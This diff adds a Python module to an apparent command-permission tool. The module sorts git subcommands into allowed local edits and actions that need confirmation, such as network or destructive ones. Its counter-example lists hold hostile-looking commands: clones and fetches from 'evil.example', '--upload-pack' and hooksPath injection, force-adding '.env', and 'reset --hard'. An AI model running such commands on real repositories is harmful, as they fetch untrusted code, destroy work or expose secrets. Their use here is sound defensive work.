@@ -1,0 +1,463 @@
+"""Rows for the sub-commands of git that change something: local work is allowed, what loses work or leaves the machine asks."""
+
+from __future__ import annotations
+
+from askfirst.model import Kind
+from askfirst.shell.tools.table import Effect, Tool
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from askfirst.model import Word
+
+__all__ = ["ROWS"]
+
+INERT, READS, WRITES, NONE, BELOW = Effect.INERT, Effect.READS, Effect.WRITES, Effect.NONE, Effect.WRITES_BELOW
+
+
+def _words(operands: tuple[Word, ...]) -> str:
+    return " ".join(w.value if w.value is not None else w.text for w in operands)
+
+
+def _edit(name: str, description: str, **more: object) -> Tool:
+    """Local work that git itself can undo."""
+    more.setdefault("operands", INERT)
+    return Tool(f"git {name}", Kind.EDIT, description, key_words=len(name.split()) + 1, **more)  # type: ignore[arg-type]
+
+
+def _asks(name: str, description: str, kind: Kind = Kind.EDIT, **more: object) -> Tool:
+    """Known, and asked for: the rows below say what would happen."""
+    return Tool(
+        f"git {name}",
+        kind,
+        description,
+        allowed=False,
+        any_options=True,
+        operands=INERT,
+        key_words=len(name.split()) + 1,
+        target=_words,
+        **more,
+    )  # type: ignore[arg-type]
+
+
+def _read(name: str, description: str, **more: object) -> Tool:
+    more.setdefault("operands", INERT)
+    return Tool(f"git {name}", Kind.READ, description, key_words=len(name.split()) + 1, **more)  # type: ignore[arg-type]
+
+
+_NETWORK = Kind.NETWORK
+_LOSES = Kind.DESTRUCTIVE
+
+ROWS: dict[str, Tool] = {
+    "add": _edit(
+        "add",
+        "stages changes",
+        flags="-n --dry-run -v --verbose -A --all --no-ignore-removal -u --update -N --intent-to-add --refresh --ignore-errors "
+        "--ignore-missing --renormalize --sparse --no-all --pathspec-file-nul --no-warn-embedded-repo",
+        values="--chmod",
+        effects={"--pathspec-from-file": READS},
+        asks={
+            "-i --interactive": "waits for a person",
+            "-p --patch": "waits for a person",
+            "-e --edit": "opens an editor",
+            "-f --force": "adds files that are ignored on purpose",
+        },
+        examples=("git add -A", "git add src/app.py"),
+        counter_examples=("git add -f .env", "git -c filter.x.clean=y add ."),
+    ),
+    "commit": _edit(
+        "commit",
+        "records staged changes",
+        flags="-a --all --allow-empty --allow-empty-message --no-edit --amend -q --quiet -v --verbose -s --signoff --no-signoff "
+        "--dry-run --short --branch "
+        "--porcelain --long -z --null -o --only -i --include --reset-author --status --no-status --no-gpg-sign "
+        "--pathspec-file-nul --verify "
+        "--no-post-rewrite",
+        values="-m --message --author --date -C --reuse-message --fixup --squash --trailer --cleanup",
+        optional="-u --untracked-files -S --gpg-sign",
+        effects={"-F --file": READS, "--pathspec-from-file": READS, "-t --template": READS},
+        asks={
+            "-n --no-verify": "skips the repository's checks",
+            "-e --edit": "opens an editor",
+            "-c --reedit-message": "opens an editor",
+            "-p --patch": "waits for a person",
+            "--interactive": "waits for a person",
+        },
+        examples=("git commit -am 'fix: x'", 'git commit -m "add {braces}; keep"'),
+        counter_examples=("git commit --no-verify -m x", "git -c core.hooksPath=/tmp/h commit -m x", "git -c core.editor=x commit"),
+    ),
+    "mv": _edit(
+        "mv",
+        "renames tracked files",
+        operands=WRITES,
+        flags="-n --dry-run -v --verbose -k",
+        asks={"-f --force": "overwrites the target"},
+        examples=("git mv a.py b.py",),
+        counter_examples=("git mv a /etc/x",),
+    ),
+    "reset": _edit(
+        "reset",
+        "unstages changes or moves the branch, files stay as they are",
+        flags="-q --quiet --no-quiet --mixed --soft -N --intent-to-add --refresh --no-refresh --pathspec-file-nul",
+        effects={"--pathspec-from-file": READS},
+        asks={
+            "--hard": "throws away changes in the working tree",
+            "--merge": "throws away changes",
+            "--keep": "changes the working tree",
+            "-p --patch": "waits for a person",
+            "--recurse-submodules": "changes the working tree",
+        },
+        examples=("git reset", "git reset --soft HEAD~1", "git reset HEAD src/app.py"),
+        counter_examples=("git reset --hard", "git reset --har HEAD~1"),
+        advice="`git stash` keeps what `git reset --hard` would throw away",
+    ),
+    "restore": _edit(
+        "restore",
+        "unstages changes",
+        flags="-q --quiet",
+        optional="",
+        least=1,
+        examples=("git restore --staged file.txt",),
+        counter_examples=("git restore file.txt", "git restore -SW x"),
+    ),
+    "rm": _edit(
+        "rm",
+        "stops tracking files and leaves them in place",
+        flags="--cached -r -q --quiet -n --dry-run --ignore-unmatch --sparse",
+        examples=("git rm --cached -r dist",),
+        counter_examples=("git rm file.txt", "git rm -f x"),
+    ),
+    "clean": _edit(
+        "clean",
+        "lists untracked files",
+        flags="-n --dry-run -d -x -X -q --quiet",
+        values="-e --exclude",
+        examples=("git clean -nd",),
+        counter_examples=("git clean -fd", "git clean -nfd", "git clean -i"),
+    ),
+    "init": _edit(
+        "init",
+        "makes a repository here",
+        operands=NONE,
+        flags="-q --quiet",
+        values="-b --initial-branch",
+        examples=("git init -q -b main",),
+        counter_examples=("git init /tmp/x", "git init --template=/tmp/t"),
+    ),
+    "format-patch": _edit(
+        "format-patch",
+        "writes commits as patch files",
+        numbers=True,
+        flags="-k --keep-subject -s --signoff --stdout -n --numbered -N --no-numbered --numbered-files --no-stat --cover-letter "
+        "--no-attach --no-thread --zero-commit "
+        "--root --binary --full-index -p --no-renames --no-signature --always --progress --rfc",
+        values="--start-number -v --reroll-count --subject-prefix --suffix --base --max-count --from-commit",
+        optional="--thread --attach --inline --from --stat -M -C -U --to --cc",
+        effects={"-o --output-directory": BELOW, "--output": WRITES, "--signature-file": READS},
+        examples=("git format-patch HEAD~3", "git format-patch -o patches/ HEAD~5"),
+        counter_examples=("git format-patch -1 -o /tmp/p", "git format-patch -1 --output=/etc/x"),
+    ),
+    "archive": _edit(
+        "archive",
+        "packs a tree into an archive",
+        flags="-v --verbose -l --list --worktree-attributes",
+        values="--format --prefix --mtime",
+        numbers=True,
+        effects={"-o --output": WRITES, "--add-file": READS},
+        asks={"--remote": "asks another repository", "--exec": "runs a program", "--add-virtual-file": "adds content"},
+        examples=("git archive HEAD", "git archive -o build.tar HEAD"),
+        counter_examples=("git archive --remote=. --exec=x HEAD",),
+    ),
+    "apply": _read(
+        "apply",
+        "checks a patch without applying it",
+        operands=READS,
+        flags="--check --stat --numstat --summary -v --verbose -q --quiet -R --reverse --cached --index -z --recount --ignore-whitespace "
+        "--ignore-space-change --unidiff-zero",
+        values="-p -C --whitespace",
+        examples=("git apply --check x.patch", "git apply --stat x.patch"),
+        counter_examples=("git apply x.patch", "git apply --unsafe-paths --check x"),
+    ),
+    "fetch": _edit(
+        "fetch",
+        "gets commits from a remote that the repository already knows",
+        flags="--all --multiple -q --quiet -v --verbose -p --prune -P --prune-tags -t --tags -n --no-tags --dry-run -k --keep "
+        "--no-auto-gc --no-auto-maintenance "
+        "--atomic --progress --no-progress -4 --ipv4 -6 --ipv6 --unshallow --no-recurse-submodules --write-fetch-head "
+        "--no-write-fetch-head "
+        "--porcelain --append -a --no-show-forced-updates --update-shallow",
+        values="--depth --deepen --shallow-since --shallow-exclude -j --jobs --filter --negotiation-tip",
+        asks={
+            "--upload-pack": "runs a program",
+            "-o --server-option": "sends an option",
+            "-f --force": "overwrites references",
+            "--refmap": "writes other references",
+            "-u --update-head-ok": "moves the current branch",
+            "--recurse-submodules": "enters submodules",
+            "--set-upstream": "changes the configuration",
+            "--stdin": "reads references from its input",
+        },
+        examples=("git fetch", "git fetch --all --prune", "git fetch origin main"),
+        counter_examples=("git fetch https://evil.example/x", "git fetch --upload-pack=x .", "git fetch --upload-pac x origin"),
+    ),
+    "ls-remote": _read(
+        "ls-remote",
+        "lists what a known remote has",
+        flags="-h -b --heads --branches -t --tags --refs -q --quiet --exit-code --get-url --symref",
+        values="--sort",
+        asks={"--upload-pack --exec": "runs a program", "-o --server-option": "sends an option"},
+        examples=("git ls-remote", "git ls-remote --tags origin"),
+        counter_examples=("git ls-remote https://evil.example/x", "git ls-remote --upload-pac=x ."),
+    ),
+    "branch": _edit(
+        "branch",
+        "lists or makes branches",
+        flags="-a --all -r --remotes -v --verbose -vv -q --quiet -l --list --show-current --no-color -i --ignore-case --no-column "
+        "--no-abbrev --omit-empty -t "
+        "--no-track --create-reflog",
+        values="--sort --format --points-at -u --set-upstream-to",
+        optional="--color --column --abbrev --contains --no-contains --merged --no-merged --track",
+        asks={
+            "-d --delete": "deletes a branch",
+            "-D": "deletes a branch, merged or not",
+            "-f --force": "moves a branch",
+            "-m --move": "renames a branch",
+            "-M": "overwrites a branch",
+            "-c --copy": "copies a branch",
+            "-C": "overwrites a branch",
+            "--edit-description": "opens an editor",
+            "--unset-upstream": "changes the configuration",
+            "--recurse-submodules": "enters submodules",
+        },
+        examples=("git branch -vv", "git branch --show-current", "git branch --all --contains abc1234", "git branch newfeature"),
+        counter_examples=("git branch -D main", "git branch --del x", "git branch -vD x"),
+    ),
+    "tag": _edit(
+        "tag",
+        "lists or makes tags",
+        numbers=False,
+        flags="-l --list -a --annotate -s --sign --no-sign -i --ignore-case --no-column --create-reflog --omit-empty -v --verify",
+        values="-m --message --sort --format --points-at --cleanup --trailer",
+        optional="-n --column --color --contains --no-contains --merged --no-merged",
+        effects={"-F --file": READS},
+        asks={
+            "-d --delete": "deletes a tag",
+            "-f --force": "moves a tag",
+            "-e --edit": "opens an editor",
+            "-u --local-user": "signs with another key",
+        },
+        examples=("git tag", "git tag -n", "git tag --list 'v*' --sort=-v:refname", "git tag -a v1.0 -m x"),
+        counter_examples=("git tag -d v1", "git tag -fa v1 -m x"),
+    ),
+    "symbolic-ref": _read(
+        "symbolic-ref",
+        "shows what a reference points at",
+        flags="-q --quiet --short --recurse --no-recurse",
+        most=1,
+        least=1,
+        asks={"-d --delete": "deletes a reference", "-m": "moves a reference"},
+        examples=("git symbolic-ref --short HEAD",),
+        counter_examples=("git symbolic-ref HEAD refs/heads/x",),
+    ),
+    "reflog": Tool("git reflog", subcommands={}, key_words=2),  # filled in git.py: it takes the options of `git log`
+    "stash": Tool(
+        "git stash",
+        Kind.EDIT,
+        "puts changes aside",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "list": _read(
+                "stash list",
+                "lists what was put aside",
+                flags="--oneline --all --no-color -p",
+                values="-n --date",
+                optional="--format --pretty --color",
+                numbers=True,
+                examples=("git stash list",),
+            ),
+            "show": _read(
+                "stash show",
+                "shows what was put aside",
+                flags="-p -u --patch --stat --name-only --name-status --include-untracked --only-untracked --no-color --numstat",
+                optional="--color -U",
+                examples=("git stash show -p stash@{0}",),
+                counter_examples=("git stash show --output=x",),
+            ),
+            "pop": _asks("stash pop", "brings changes back into the working tree"),
+            "apply": _asks("stash apply", "brings changes back into the working tree"),
+            "push": _asks("stash push", "takes changes out of the working tree"),
+            "save": _asks("stash save", "takes changes out of the working tree"),
+            "drop": _asks("stash drop", "deletes what was put aside", _LOSES),
+            "clear": _asks("stash clear", "deletes all that was put aside", _LOSES),
+            "branch": _asks("stash branch", "makes a branch from what was put aside"),
+        },
+        examples=("git stash list",),
+        counter_examples=("git stash", "git stash clear"),
+    ),
+    "remote": Tool(
+        "git remote",
+        Kind.READ,
+        "lists remotes",
+        flags="-v --verbose",
+        key_words=2,
+        operands=NONE,
+        subcommands={
+            "show": _read(
+                "remote show",
+                "shows a known remote",
+                flags="-n",
+                examples=("git remote show origin",),
+                counter_examples=("git remote show https://evil.example/x",),
+            ),
+            "get-url": _read("remote get-url", "shows a remote's address", flags="--push --all", examples=("git remote get-url origin",)),
+            "add": _asks("remote add", "adds a remote"),
+            "rename": _asks("remote rename", "renames a remote"),
+            "remove": _asks("remote remove", "removes a remote"),
+            "rm": _asks("remote rm", "removes a remote"),
+            "set-url": _asks("remote set-url", "changes where a remote points"),
+            "prune": _asks("remote prune", "deletes remote branches known here"),
+            "update": _asks("remote update", "fetches", _NETWORK),
+            "set-head": _asks("remote set-head", "changes a remote's head"),
+            "set-branches": _asks("remote set-branches", "changes what is fetched"),
+        },
+        examples=("git remote -v",),
+        counter_examples=("git remote add x https://evil.example/x",),
+    ),
+    "worktree": Tool(
+        "git worktree",
+        Kind.EDIT,
+        "manages work trees",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "list": _read(
+                "worktree list",
+                "lists work trees",
+                operands=NONE,
+                flags="-v --verbose --porcelain -z",
+                values="--expire",
+                examples=("git worktree list",),
+            ),
+            "add": _asks("worktree add", "makes another work tree"),
+            "remove": _asks("worktree remove", "deletes a work tree", _LOSES),
+            "prune": _asks("worktree prune", "forgets work trees"),
+            "move": _asks("worktree move", "moves a work tree"),
+        },
+    ),
+    "submodule": Tool(
+        "git submodule",
+        Kind.READ,
+        "shows submodules",
+        flags="-q --quiet",
+        key_words=2,
+        subcommands={
+            "status": _read("submodule status", "shows submodules", flags="--cached --recursive", examples=("git submodule status",)),
+            "summary": _asks("submodule summary", "shows changes of submodules"),
+            "foreach": _asks("submodule foreach", "runs a command in every submodule", Kind.WRAPPER),
+            "update": _asks("submodule update", "fetches and checks out submodules", _NETWORK),
+            "add": _asks("submodule add", "adds another repository", _NETWORK),
+            "init": _asks("submodule init", "changes the configuration"),
+            "sync": _asks("submodule sync", "changes the configuration"),
+            "deinit": _asks("submodule deinit", "removes a submodule", _LOSES),
+        },
+        examples=("git submodule", "git submodule status"),
+        counter_examples=("git submodule foreach 'touch x'",),
+    ),
+    "notes": Tool(
+        "git notes",
+        Kind.READ,
+        "lists notes",
+        key_words=2,
+        subcommands={
+            "list": _read("notes list", "lists notes", examples=("git notes list",)),
+            "show": _read("notes show", "shows a note", examples=("git notes show",)),
+            "get-ref": _read("notes get-ref", "names the notes reference"),
+        },
+        examples=("git notes",),
+        counter_examples=("git notes add -m x",),
+    ),
+    "bisect": Tool(
+        "git bisect",
+        Kind.EDIT,
+        "searches for the commit that broke something",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "log": _read("bisect log", "shows the search so far", examples=("git bisect log",)),
+            "terms": _read("bisect terms", "shows the words of the search"),
+            "run": _asks("bisect run", "runs a command for many commits", Kind.WRAPPER),
+            "start": _asks("bisect start", "starts a search"),
+            "reset": _asks("bisect reset", "ends a search"),
+            "good": _asks("bisect good", "marks a commit"),
+            "bad": _asks("bisect bad", "marks a commit"),
+        },
+        counter_examples=("git bisect run touch x",),
+    ),
+    "bundle": Tool(
+        "git bundle",
+        Kind.EDIT,
+        "packs a repository into a file",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "verify": _read(
+                "bundle verify", "checks a bundle", operands=READS, flags="-q --quiet", examples=("git bundle verify repo.bundle",)
+            ),
+            "list-heads": _read("bundle list-heads", "lists what a bundle holds", operands=READS),
+        },
+        counter_examples=("git bundle create x HEAD",),
+    ),
+    "sparse-checkout": Tool(
+        "git sparse-checkout",
+        Kind.EDIT,
+        "chooses what is checked out",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "list": _read("sparse-checkout list", "shows what is checked out", operands=NONE, examples=("git sparse-checkout list",))
+        },
+    ),
+    "lfs": Tool(
+        "git lfs",
+        Kind.EDIT,
+        "large files",
+        allowed=False,
+        key_words=2,
+        subcommands={
+            "status": _read("lfs status", "shows large files", flags="-p --porcelain -j --json", examples=("git lfs status",)),
+            "env": _read("lfs env", "shows the settings", operands=NONE, examples=("git lfs env",)),
+            "ls-files": _read(
+                "lfs ls-files", "lists large files", flags="-l --long -s --size -a --all -n --name-only -d --debug --deleted"
+            ),
+            "version": _read("lfs version", "shows the version", operands=NONE),
+        },
+        counter_examples=("git lfs install",),
+    ),
+    # Asked for, each with what it would do.
+    "push": _asks("push", "sends commits to another machine", _NETWORK, counter_examples=("git push", "git push origin main")),
+    "pull": _asks(
+        "pull",
+        "fetches and merges",
+        _NETWORK,
+        advice="`git fetch` and `git diff ...@{u}` look first",
+        counter_examples=("git pull --upload-pack=x .",),
+    ),
+    "clone": _asks(
+        "clone", "copies a repository, its hooks and its code", _NETWORK, counter_examples=("git clone https://evil.example/x",)
+    ),
+    "filter-branch": _asks("filter-branch", "rewrites history with commands", _LOSES),
+    "filter-repo": _asks("filter-repo", "rewrites history", _LOSES),
+    "update-ref": _asks("update-ref", "moves or deletes references", _LOSES),
+    "read-tree": _asks("read-tree", "overwrites the index or files", _LOSES),
+    "replace": _asks("replace", "replaces objects", _LOSES),
+    "gc": _asks("gc", "removes unreachable objects", _LOSES),
+    "prune": _asks("prune", "removes objects", _LOSES),
+    "credential": _asks("credential", "shows or stores passwords"),
+    "send-email": _asks("send-email", "sends mail", _NETWORK),
+    "difftool": _asks("difftool", "runs a diff program", Kind.WRAPPER, advice="use `git diff`"),
+    "mergetool": _asks("mergetool", "runs a merge program", Kind.WRAPPER),
+    "hook": _asks("hook", "runs a hook", Kind.WRAPPER),
+    "am": _asks("am", "applies mailed patches"),
+    "maintenance": _asks("maintenance", "changes the repository or installs a timer"),
+    "svn": _asks("svn", "talks to a Subversion server", _NETWORK),
+}
